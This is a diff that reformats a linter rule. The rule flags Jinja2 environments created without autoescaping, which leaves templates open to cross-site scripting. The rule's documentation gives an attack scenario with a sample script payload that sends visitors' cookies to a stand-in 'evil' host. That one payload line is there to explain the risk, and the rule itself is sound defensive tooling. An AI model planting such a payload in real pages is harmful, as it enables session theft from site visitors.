@@ -22,18 +22,25 @@ export default defineRule({
     fixable: true,
     messages: {
       disabled: '`{{fn}}` is created with autoescape=False; variables rendered into HTML are not escaped (XSS).',
-      missing: '`{{fn}}` does not set autoescape, and Jinja2 does not escape by default; pass autoescape=True or select_autoescape().',
+      missing:
+        '`{{fn}}` does not set autoescape, and Jinja2 does not escape by default; pass autoescape=True or select_autoescape().',
       computed: '`{{fn}}` takes autoescape from a computed value; make sure it is true for HTML templates.',
     },
     docs: {
-      whatItDoes: 'Flags `jinja2.Environment(...)` calls whose `autoescape` is missing, false, or a value other than `True` / `select_autoescape(...)`.',
-      whyBad: 'Jinja2 escapes nothing unless told to. Any user-controlled value rendered with `{{ value }}` into an HTML template becomes markup and script.',
-      businessImpact: 'Stored or reflected cross-site scripting: session theft, actions performed as the victim, defacement.',
-      attackScenario: 'A user sets their display name to `<script>fetch("//evil/?c="+document.cookie)</script>`; every page that renders the name runs the script in visitors\' browsers.',
+      whatItDoes:
+        'Flags `jinja2.Environment(...)` calls whose `autoescape` is missing, false, or a value other than `True` / `select_autoescape(...)`.',
+      whyBad:
+        'Jinja2 escapes nothing unless told to. Any user-controlled value rendered with `{{ value }}` into an HTML template becomes markup and script.',
+      businessImpact:
+        'Stored or reflected cross-site scripting: session theft, actions performed as the victim, defacement.',
+      attackScenario:
+        'A user sets their display name to `<script>fetch("//evil/?c="+document.cookie)</script>`; every page that renders the name runs the script in visitors\' browsers.',
       example: 'env = jinja2.Environment(loader=jinja2.FileSystemLoader("templates"))',
-      useInstead: 'env = jinja2.Environment(loader=jinja2.FileSystemLoader("templates"), autoescape=jinja2.select_autoescape())',
+      useInstead:
+        'env = jinja2.Environment(loader=jinja2.FileSystemLoader("templates"), autoescape=jinja2.select_autoescape())',
       testing: 'Render a template with a value `<b>x</b>` and assert the output contains `&lt;b&gt;`.',
-      knownProblems: 'Environments used only for non-HTML output (SQL, YAML, e-mail text) are reported too; suppress them with a reason. `jinja2.Template(...)` and `**kwargs` are not checked.',
+      knownProblems:
+        'Environments used only for non-HTML output (SQL, YAML, e-mail text) are reported too; suppress them with a reason. `jinja2.Template(...)` and `**kwargs` are not checked.',
       references: [
         'https://jinja.palletsprojects.com/en/stable/api/#autoescaping',
         'https://cwe.mitre.org/data/definitions/79.html',
@@ -49,7 +56,9 @@ export default defineRule({
       const fn = call.callee.text;
       if (!value) {
         const list = call.argumentList;
-        const fix = list ? { description: 'Add autoescape=True.', edits: [appendArgument(list, 'autoescape=True', ctx.source)] } : undefined;
+        const fix = list
+          ? { description: 'Add autoescape=True.', edits: [appendArgument(list, 'autoescape=True', ctx.source)] }
+          : undefined;
         ctx.report({ node: call.node, messageId: 'missing', data: { fn }, ...(fix ? { fix } : {}) });
         return;
       }
@@ -64,7 +73,13 @@ export default defineRule({
           : { confidence: 'medium' as const }),
       });
     };
-    return { calls: { 'jinja2.Environment': check, 'jinja2.environment.Environment': check, 'jinja2.sandbox.SandboxedEnvironment': check } };
+    return {
+      calls: {
+        'jinja2.Environment': check,
+        'jinja2.environment.Environment': check,
+        'jinja2.sandbox.SandboxedEnvironment': check,
+      },
+    };
   },
 });
 
